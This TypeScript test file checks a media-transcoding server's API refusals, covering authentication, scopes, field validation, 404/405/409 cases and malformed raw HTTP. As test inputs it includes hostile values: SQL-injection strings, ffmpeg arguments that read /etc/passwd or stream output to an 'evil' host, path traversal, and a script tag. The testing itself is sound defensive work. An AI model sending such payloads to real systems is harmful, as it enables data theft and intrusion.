// What the API says to every kind of wrong request: the status, a problem document that names the field, and a server that goes on.
import assert from "node:assert/strict";
import { mkdirSync, symlinkSync, writeFileSync } from "node:fs";
import { connect } from "node:net";
import { dirname, join } from "node:path";
import { before, describe, test } from "node:test";
import { type Answer, atEnd, type Json, makeFilm, reeve, Server, temporaryDirectory, until } from "./harness.ts";

let server: Server;
let reader: string;
let operator: string;
let library: string;
let root: number;
let file: number;

before(async () => {
  library = join(temporaryDirectory(), "library");
  mkdirSync(library);
  await makeFilm(join(library, "film.mkv"), { seconds: 1 });
  server = await Server.start({ args: ["--encode-slots", "0"] });
  atEnd(() => server.stop());
  reader = await Server.makeKey(server.data, undefined, "read");
  operator = await Server.makeKey(server.data, undefined, "operate");
  root = await server.addRoot(library, "hevc");
  await server.scan(root);
  file = (await server.all("/files"))[0]?.id as number;
});

/** The shape of every refusal: RFC 9457, and for wrong fields which ones. */
function assertProblem(answer: Answer, status: number, field?: string): void {
  const said = JSON.stringify(answer.body);
  assert.equal(answer.status, status, said);
  assert.match(answer.headers.get("Content-Type") ?? "", /^application\/problem\+json/);
  assert.equal(answer.body.status, status, said);
  assert.equal(typeof answer.body.title, "string", said);
  assert.match(answer.body.detail as string, /^[^a-z].*|^\S+/, said);
  if (field !== undefined) {
    const fields = ((answer.body.errors ?? []) as Json[]).map((error) => error.field as string);
    assert.ok(fields.includes(field), `${said} names ${field}`);
    assert.ok((answer.body.errors as Json[]).every((error) => (error.message as string).length > 3));
  }
}

describe("who may ask", () => {
  test("health and signing in need no key; everything else does", async () => {
    for (const path of ["/health/live", "/health/ready", "/api/v1/health/live", "/api/v1/health/ready"]) {
      assert.equal((await fetch(`${server.url}${path}`)).status, 200, path);
    }
    for (const path of ["/jobs", "/files", "/roots", "/history", "/stats", "/profiles", "/events"]) {
      const answer = await fetch(`${server.url}/api/v1${path}`);
      assert.equal(answer.status, 401, path);
      assert.match(answer.headers.get("WWW-Authenticate") ?? "", /Bearer/);
      await answer.body?.cancel();
    }
  });

  test("a key is taken from X-Api-Key or as a bearer token; a wrong one is refused", async () => {
    const ask = (headers: Record<string, string>): Promise<Response> => fetch(`${server.url}/api/v1/stats`, { headers });
    assert.equal((await ask({ "X-Api-Key": server.key })).status, 200);
    assert.equal((await ask({ Authorization: `Bearer ${server.key}` })).status, 200);
    const wrong: Record<string, string>[] = [
      { "X-Api-Key": "nonsense" },
      { "X-Api-Key": "" },
      { "X-Api-Key": `${server.key}x` },
      { "X-Api-Key": server.key.slice(0, -1) },
      { Authorization: "Bearer" },
      { Authorization: `Basic ${server.key}` },
      { "X-Api-Key": "' OR 1=1 --" },
      { "X-Api-Key": "a".repeat(8000) },
    ];
    for (const headers of wrong) {
      const answer = await ask(headers);
      assert.equal(answer.status, 401, JSON.stringify(headers).slice(0, 80));
    }
    assert.equal((await fetch(`${server.url}/api/v1/stats?api_key=${server.key}`)).status, 401);
  });

  test("a key does what its scope allows, and no more", async () => {
    const as = (key: string, method: string, path: string, body?: unknown): Promise<Answer> => server.request(method, path, body, { "X-Api-Key": key });
    assert.equal((await as(reader, "GET", "/files")).status, 200);
    for (const [method, path, body] of [
      ["POST", `/roots/${root}/scan`, undefined],
      ["POST", "/jobs", { kind: "transcode", file }],
      ["POST", "/history/1/undo", undefined],
      ["POST", "/jobs/1/cancel", undefined],
      ["PATCH", "/jobs/1", { priority: "high" }],
    ] as const) {
      assertProblem(await as(reader, method, path, body), 403);
    }
    for (const [method, path, body] of [
      ["POST", "/roots", { path: library }],
      ["DELETE", `/roots/${root}`, undefined],
      ["PATCH", `/roots/${root}`, { name: "x" }],
      ["POST", "/profiles", { name: "x" }],
      ["DELETE", "/profiles/1", undefined],
    ] as const) {
      assertProblem(await as(operator, method, path, body), 403);
    }
    assert.equal((await as(operator, "POST", `/roots/${root}/scan`)).status, 202);
  });

  test("a key that another process revokes is worthless soon", async () => {
    const key = await Server.makeKey(server.data, undefined, "read");
    assert.equal((await server.request("GET", "/stats", undefined, { "X-Api-Key": key })).status, 200);
    const listed = JSON.parse((await reeve(["key", "list", "--json", "--data", server.data])).stdout) as Json[] | Json;
    const keys = (Array.isArray(listed) ? listed : (listed.items as Json[])) as Json[];
    const id = Math.max(...keys.map((it) => it.id as number));
    assert.equal((await reeve(["key", "revoke", String(id), "--data", server.data])).code, 0);
    const refused = await until("the key is refused", async () => {
      const answer = await server.request("GET", "/stats", undefined, { "X-Api-Key": key });
      return answer.status === 200 ? undefined : answer;
    }, 20_000);
    assertProblem(refused, 401);
  });
});

describe("what is sent", () => {
  test("bodies that are no good JSON", async () => {
    for (const body of ["", "{", "nonsense", "[]", '"text"', "12", "null", "{'a':1}", '{"path":}', '{"path":"a","path":"b"}', '{"path":"\\ud800"}', `${"[".repeat(5000)}${"]".repeat(5000)}`, '{"path":"/tmp\\u0000/x"}', "\ufeff{}", '{"a":1e999}']) {
      assertProblem(await server.request("POST", "/roots", body), 422);
    }
    const bytes = await fetch(`${server.url}/api/v1/roots`, { method: "POST", headers: { "X-Api-Key": server.key }, body: new Uint8Array([0x7b, 0x22, 0xff, 0xfe, 0x22, 0x3a, 0x31, 0x7d]) });
    assert.equal(bytes.status, 422);
  });

  test("fields that are unknown, of the wrong type, out of range or missing", async () => {
    const cases: [string, string, Json, string][] = [
      ["POST", "/roots", { path: library, nonsense: 1 }, "nonsense"],
      ["POST", "/roots", { path: 5 }, "path"],
      ["POST", "/roots", {}, "path"],
      ["POST", "/roots", { path: "" }, "path"],
      ["POST", "/roots", { path: null }, "path"],
      ["POST", "/roots", { path: library, enabled: "yes" }, "enabled"],
      ["POST", "/roots", { path: library, type: "cartoons" }, "type"],
      ["POST", "/roots", { path: library, profile: "no such profile" }, "profile"],
      ["POST", "/roots", { path: library, profile: 987654 }, "profile"],
      ["POST", "/roots", { path: library, include: "*.mkv" }, "include"],
      ["POST", "/roots", { path: library, include: [1] }, "include.0"],
      ["POST", "/roots", { path: library, trash_path: "relative" }, "trash_path"],
      ["POST", "/roots", { path: library, id: 7 }, "id"],
      ["PATCH", "/roots/1", { path: "/elsewhere" }, "path"],
      ["PATCH", "/roots/1", { nonsense: true }, "nonsense"],
      ["POST", "/profiles", { codec: "hevc" }, "name"],
      ["POST", "/profiles", { name: "p", codec: "mpeg7" }, "codec"],
      ["POST", "/profiles", { name: "p", max_height: -1 }, "max_height"],
      ["POST", "/profiles", { name: "p", max_height: 1e6 }, "max_height"],
      ["POST", "/profiles", { name: "p", max_height: 1.5 }, "max_height"],
      ["POST", "/profiles", { name: "p", max_height: "720" }, "max_height"],
      ["POST", "/profiles", { name: "p", min_saving_percent: 100 }, "min_saving_percent"],
      ["POST", "/profiles", { name: "n".repeat(65) }, "name"],
      ["POST", "/profiles", { name: "p", qualities: [{ quality: "good" }] }, "qualities.0.quality"],
      ["POST", "/profiles", { name: "p", qualities: [{ quality: 20, extra: 1 }] }, "qualities.0.extra"],
      ["POST", "/profiles", { name: "p", two_pass: true }, "two_pass"],
      ["POST", "/profiles", { name: "p", codec: "prores", container: "webm" }, "container"],
      ["POST", "/profiles", { name: "p", extra_arguments: ["-i", "/etc/passwd"] }, "extra_arguments"],
      ["POST", "/profiles", { name: "p", extra_arguments: ["-f", "tee", "http://evil/"] }, "extra_arguments"],
      ["POST", "/jobs", { kind: "nonsense", root: 1 }, "kind"],
      ["POST", "/jobs", { root: 1 }, "kind"],
      ["POST", "/jobs", { kind: "transcode" }, "file"],
      ["POST", "/jobs", { kind: "transcode", root: 1, file: 1 }, "file"],
      ["POST", "/jobs", { kind: "transcode", root: "1" }, "root"],
      ["POST", "/jobs", { kind: "transcode", root: 0 }, "root"],
      ["POST", "/jobs", { kind: "transcode", root: 1, force: "no" }, "force"],
      ["POST", "/jobs", { kind: "transcode", root: 1, priority: "urgent" }, "priority"],
      ["POST", "/jobs", { kind: "transcode", files: [1, "2"] }, "files.1"],
      ["POST", "/jobs", { kind: "scan", root: 1, dry_run: true }, "dry_run"],
      ["POST", "/jobs", { kind: "scan", file: 1 }, "root"],
      ["PATCH", "/jobs/1", {}, "priority"],
      ["PATCH", "/jobs/1", { priority: 3 }, "priority"],
      ["PATCH", "/jobs/1", { state: "done" }, "state"],
      ["POST", "/session", { name: "x" }, "password"],
    ];
    for (const [method, path, body, field] of cases) {
      await test(`${method} ${path} ${JSON.stringify(body).slice(0, 90)}`, async () => assertProblem(await server.request(method, path, body), 422, field));
    }
  });

  test("several wrong fields are named at once", async () => {
    const answer = await server.request("POST", "/profiles", { name: 5, codec: "x", nonsense: 1 });
    assertProblem(answer, 422);
    assert.deepEqual((answer.body.errors as Json[]).map((error) => error.field as string).sort(), ["codec", "name", "nonsense"]);
  });

  test("a body where none is wanted", async () => {
    assertProblem(await server.request("POST", `/roots/${root}/scan`, { deep: true }), 422, "deep");
    assert.equal((await server.request("POST", `/roots/${root}/scan`, {})).status, 202);
  });

  test("a body that is too large, announced or not", async () => {
    const large = JSON.stringify({ path: "x".repeat(2 * 1024 * 1024) });
    assertProblem(await server.request("POST", "/roots", large), 413);
    const chunked = await fetch(`${server.url}/api/v1/roots`, {
      method: "POST",
      headers: { "X-Api-Key": server.key },
      body: new ReadableStream({
        start(controller) {
          for (let i = 0; i < 40; i++) controller.enqueue(new TextEncoder().encode(" ".repeat(64 * 1024)));
          controller.close();
        },
      }),
      duplex: "half",
    } as RequestInit);
    assert.equal(chunked.status, 413);
  });

  test("query parameters that are unknown, wrong or given twice", async () => {
    for (const [path, field] of [
      ["/files?limit=0", "limit"],
      ["/files?limit=501", "limit"],
      ["/files?limit=ten", "limit"],
      ["/files?limit=5&limit=6", "limit"],
      ["/files?root=x", "root"],
      ["/files?sort=colour", "sort"],
      ["/files?descending=yes", "descending"],
      ["/files?state=lost", "state"],
      ["/files?nonsense=1", "nonsense"],
      ["/jobs?state=x", "state"],
      ["/jobs/1/log?after=x", "after"],
      [`/files/${1}/plan?force=1`, "force"],
    ] as const) {
      assertProblem(await server.request("GET", path), 422, field);
    }
    for (const path of ["/files?after=nonsense", "/jobs?after=%00", "/history?after=abc", "/files?text=%zz", "/files?text=%ff"]) assertProblem(await server.request("GET", path), 422);
    assert.equal((await server.all(`/files?text=${encodeURIComponent("' OR 1=1; --")}`)).length, 0);
    assert.equal((await server.all(`/files?text=${encodeURIComponent("%_")}`)).length, 0, "what is searched for is text, not a pattern");
  });
});

describe("what is asked for", () => {
  test("things that are not there", async () => {
    for (const [method, path, body] of [
      ["GET", "/nonsense", undefined],
      ["GET", "/files/999999", undefined],
      ["GET", "/files/999999/plan", undefined],
      ["GET", "/jobs/999999", undefined],
      ["GET", "/jobs/999999/log", undefined],
      ["GET", "/roots/999999", undefined],
      ["GET", "/profiles/999999", undefined],
      ["POST", "/jobs/999999/cancel", undefined],
      ["POST", "/history/999999/undo", undefined],
      ["POST", "/roots/999999/scan", undefined],
      ["POST", "/roots/999999/confirm", undefined],
      ["PATCH", "/jobs/999999", { priority: "low" }],
      ["DELETE", "/roots/999999", undefined],
      ["DELETE", "/profiles/999999", undefined],
      ["POST", "/jobs", { kind: "transcode", file: 999999 }],
      ["POST", "/jobs", { kind: "transcode", root: 999999 }],
      ["POST", "/jobs", { kind: "scan", root: 999999 }],
      ["GET", "/files/0", undefined],
      ["GET", "/files/-1", undefined],
      ["GET", "/files/abc", undefined],
      ["GET", "/files/99999999999999999999", undefined],
      ["GET", "/files/1/", undefined],
      ["GET", "//files", undefined],
      ["GET", "/files/..%2f..%2fetc%2fpasswd", undefined],
    ] as const) {
      await test(`${method} ${path}`, async () => assertProblem(await server.request(method, path, body), 404));
    }
  });

  test("methods that are not possible", async () => {
    for (const [method, path, allowed] of [
      ["DELETE", "/files", /GET/],
      ["PUT", "/roots/1", /PATCH/],
      ["GET", "/roots/1/scan", /POST/],
      ["POST", "/stats", /GET/],
      ["DELETE", "/jobs/1", /PATCH/],
    ] as const) {
      const answer = await server.request(method, path);
      assertProblem(answer, 405);
      assert.match(answer.headers.get("Allow") ?? "", allowed);
    }
  });

  test("things that cannot be done now", async () => {
    const profile = (await server.all("/profiles")).find((it) => it.name === "hevc");
    assertProblem(await server.request("DELETE", `/profiles/${profile?.id as number}`), 409);
    assertProblem(await server.request("POST", "/profiles", { name: "hevc" }), 409);
    const [job] = await server.enqueue({ file });
    assertProblem(await server.request("POST", `/jobs/${job}/resume`), 409);
    assertProblem(await server.request("POST", `/jobs/${job}/retry`), 409);
    assert.equal((await server.call("POST", `/jobs/${job}/cancel`)).state, "cancelled");
    assertProblem(await server.request("POST", `/jobs/${job}/cancel`), 409);
    assertProblem(await server.request("PATCH", `/jobs/${job}`, { priority: "high" }), 409);
    assert.equal((await server.call("POST", `/jobs/${job}/retry`)).state, "pending");
    await server.call("POST", `/jobs/${job}/cancel`);
  });

  test("roots that cannot be roots", async () => {
    const elsewhere = temporaryDirectory();
    symlinkSync(library, join(elsewhere, "link to the library"));
    writeFileSync(join(elsewhere, "file"), "x");
    for (const [path, status] of [
      [library, 409],
      [`${library}/`, 409],
      [`${library}/../library`, 409],
      [join(elsewhere, "link to the library"), 409],
      [dirname(library), 409],
      ["relative/path", 422],
      ["../../etc", 422],
      ["/", 422],
      ["/no/such/directory", 422],
      [join(elsewhere, "file"), 422],
      [server.data, 422],
      [join(server.data, ".."), 422],
      [`/${"a".repeat(5000)}`, 422],
      ["file:///etc", 422],
    ] as const) {
      const answer = await server.request("POST", "/roots", { path });
      assertProblem(answer, status, status === 422 ? "path" : undefined);
    }
    assert.equal((await server.all("/roots")).length, 1);
  });

  test("sign-in with wrong words is refused, and too many attempts are held up", async () => {
    const statuses = new Set<number>();
    for (let i = 0; i < 25; i++) statuses.add((await server.request("POST", "/session", { name: "nobody", password: "wrong" })).status);
    assert.ok(statuses.has(401));
    assert.ok([...statuses].every((status) => status === 401 || status === 429), [...statuses].join());
  });
});

describe("how it is sent", () => {
  /** Sends bytes and gives back all that comes until the server closes. */
  function raw(text: string): Promise<string> {
    const port = Number(new URL(server.url).port);
    return new Promise((resolve, reject) => {
      let answer = "";
      const socket = connect(port, "127.0.0.1", () => socket.write(text));
      socket.setEncoding("latin1").on("data", (data: string) => (answer += data));
      socket.on("close", () => resolve(answer));
      socket.on("error", (error: NodeJS.ErrnoException) => (error.code === "ECONNRESET" ? resolve(answer) : reject(error)));
      socket.setTimeout(40_000, () => socket.destroy());
    });
  }

  test("what is no HTTP, or too much of it, ends that connection only", async () => {
    for (const text of [
      "nonsense\r\n\r\n",
      `GET /${"a".repeat(100_000)} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`,
      `GET /health/live HTTP/1.1\r\nHost: x\r\nX-Long: ${"a".repeat(100_000)}\r\nConnection: close\r\n\r\n`,
      "POST /api/v1/roots HTTP/1.1\r\nHost: x\r\nContent-Length: -5\r\nConnection: close\r\n\r\n",
      "POST /api/v1/roots HTTP/1.1\r\nHost: x\r\nContent-Length: 99999999999999999999\r\nConnection: close\r\n\r\n",
      "POST /api/v1/roots HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\nzz\r\n",
      "GET /api/v1/files/%zz HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
    ]) {
      const answer = await raw(text);
      assert.match(answer, /^$|^HTTP\/1\.[01] (400|401|404|413|414|431|5\d\d|422) /, `${text.slice(0, 60)} -> ${answer.slice(0, 200)}`);
    }
    assert.equal((await server.request("GET", "/stats")).status, 200);
  });

  test("the caller's request id comes back, and security headers are there", async () => {
    const answer = await server.request("GET", "/stats", undefined, { "X-Request-Id": "from-the-test" });
    assert.equal(answer.headers.get("X-Request-Id"), "from-the-test");
    assert.equal(answer.headers.get("X-Content-Type-Options"), "nosniff");
    assert.match(answer.headers.get("Content-Security-Policy") ?? "", /default-src 'none'/);
    assert.equal(answer.headers.get("Cache-Control"), "no-store");
    const odd = await server.request("GET", "/stats", undefined, { "X-Request-Id": "<script>" });
    assert.notEqual(odd.headers.get("X-Request-Id"), "<script>");
  });
});
